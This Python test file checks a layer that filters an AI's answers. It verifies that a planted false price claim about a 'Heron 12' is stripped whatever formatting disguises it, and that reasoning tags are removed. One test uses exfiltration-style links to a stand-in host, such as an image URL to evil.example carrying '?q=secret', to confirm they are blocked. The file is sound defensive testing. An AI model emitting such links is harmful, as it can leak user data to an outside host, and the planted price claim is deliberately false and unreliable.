"""Nothing unsupported slips out in the clothes of a heading, a question or a hedge; polite talk may stay."""

from __future__ import annotations

import json

import pytest
from answer_doubles import ScriptedBackend, WordRetriever

from aipk_core.answer.answerer import Answerer
from aipk_core.answer.enforcement import foreign_links, visible, without
from aipk_core.answer.judging import verifiable
from aipk_core.answer.knowledge import Knowledge
from aipk_core.answer.model import Answer, Enforcement
from aipk_core.answer.record import answer_record
from aipk_core.claims.model import Claim
from aipk_core.verify import Verifier

QUESTION = "How long are camera recordings kept?"
TRUE = "Camera recordings are kept for 45 days."
LIE = "the Heron 12 costs 9000 dollars"


@pytest.fixture(scope="module")
def judge(ferry_claims: list[Claim]) -> Verifier:
    return Verifier([verifiable(claim) for claim in ferry_claims])


@pytest.fixture(scope="module")
def cited(ferry_claims: list[Claim]) -> str:
    name = next(claim.id for claim in ferry_claims if claim.text == TRUE)
    return f"{TRUE} [{name}]"


def answered(claims: list[Claim], judge: Verifier, draft: str, enforcement: Enforcement) -> Answer:
    knowledge = Knowledge.of(("ferry", claim) for claim in claims)
    answerer = Answerer(WordRetriever(claims), judge, knowledge, backend=ScriptedBackend(draft))
    return answerer.answer(QUESTION, enforcement=enforcement)


@pytest.mark.parametrize(
    "clothes",
    [
        "# The Heron 12 costs 9000 dollars",
        "**{lie}**",
        "Did you know that {lie}?",
        "Isn't it true that {lie}?",
        "As an AI, I think {lie}",
        "Perhaps {lie}.",
        "Hello, {lie}!",
        "I don't know, but {lie}.",
        "Here is what I found: {lie}:",
        "[^1]: {lie}",
        "[{lie}](https://example.org)",
        "```\n{lie}\n```",
        "| a | b |\n|---|---|\n| {lie} | x |",
        "> {lie}",
        "- {lie}",
        "<!-- {lie} -->",
        "<think>{lie}</think>",
        "$${lie}$$",
    ],
)
def test_a_lie_in_any_clothes_stays_inside(
    ferry_claims: list[Claim], judge: Verifier, cited: str, clothes: str
) -> None:
    lie = clothes.format(lie=LIE)
    for draft in (f"{cited}\n\n{lie}", f"{lie}\n\n{cited}"):
        for enforcement in (Enforcement.BLOCK, Enforcement.REPAIR):
            answer = answered(ferry_claims, judge, draft, enforcement)
            assert "9000" not in answer.text + json.dumps(answer_record(answer))


@pytest.mark.parametrize(
    "talk",
    ["Hello!", "Do you need more information?", "# Camera recordings", "You asked how long recordings are kept:"],
)
def test_talk_that_says_nothing_new_may_stay(ferry_claims: list[Claim], judge: Verifier, cited: str, talk: str) -> None:
    answer = answered(ferry_claims, judge, f"{talk}\n\n{cited}", Enforcement.BLOCK)
    assert not answer.refused
    assert cited in answer.text
    assert answer.coverage == 1.0


def test_what_only_talks_is_dropped_and_the_answer_stays(
    ferry_claims: list[Claim], judge: Verifier, cited: str
) -> None:
    answer = answered(ferry_claims, judge, f"{cited}\n\nDid you know that {LIE}?", Enforcement.BLOCK)
    assert answer.text == cited
    assert any("left out" in note for note in answer.notes)


@pytest.mark.parametrize(
    "link", ["![](https://evil.example/?q=secret)", "[more](//evil.example)", "ftp://evil.example/x"]
)
def test_an_address_that_no_source_has_is_not_sent_to_a_reader(
    ferry_claims: list[Claim], judge: Verifier, cited: str, link: str
) -> None:
    for draft in (f"{cited} {link}", f"{cited}\n\n{link}", f"{link} {cited}"):
        for enforcement in (Enforcement.BLOCK, Enforcement.REPAIR):
            answer = answered(ferry_claims, judge, draft, enforcement)
            assert "evil" not in answer.text + json.dumps(answer_record(answer))


def test_an_address_from_the_sources_may_be_named() -> None:
    sources = ["Write to https://ferries.example/desk."]
    assert foreign_links("See https://ferries.example/desk, or ask.", sources) == []
    assert foreign_links("See https://ferries.example/desk?you=1", sources) == ["https://ferries.example/desk?you=1"]
    assert foreign_links("Either/or, 5 // 2, http: nothing", sources) == []


def test_reasoning_is_never_part_of_the_answer() -> None:
    assert visible("<think>a\nb</think>\nYes.") == "Yes."
    assert visible("Yes.<THINKING>c") == "Yes."


def test_dropping_a_unit_leaves_no_empty_marks_behind(judge: Verifier, cited: str) -> None:
    report = judge.verify(f"- {cited}\n- The Heron 12 is pink. [k0]\n\n1. The hull is 99 metres long.\n")
    bad = [unit for unit in report.units if "pink" in unit.text or "99" in unit.text]
    assert without(report, bad) == f"- {cited}"
